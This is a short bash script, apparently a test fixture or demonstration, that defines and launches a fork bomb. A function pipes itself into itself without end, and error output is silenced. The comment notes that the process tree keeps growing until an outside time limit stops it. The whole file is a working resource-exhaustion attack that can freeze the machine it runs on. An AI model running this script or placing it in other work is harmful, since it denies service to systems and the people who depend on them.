#!/bin/bash
# A shell fork bomb whose every level waits for its children, so the run cannot end by the main process
# exiting (that would kill the rest); bash retries failed forks, so only a time limit ends it.
exec 2>/dev/null
bomb() { bomb | bomb; }
bomb
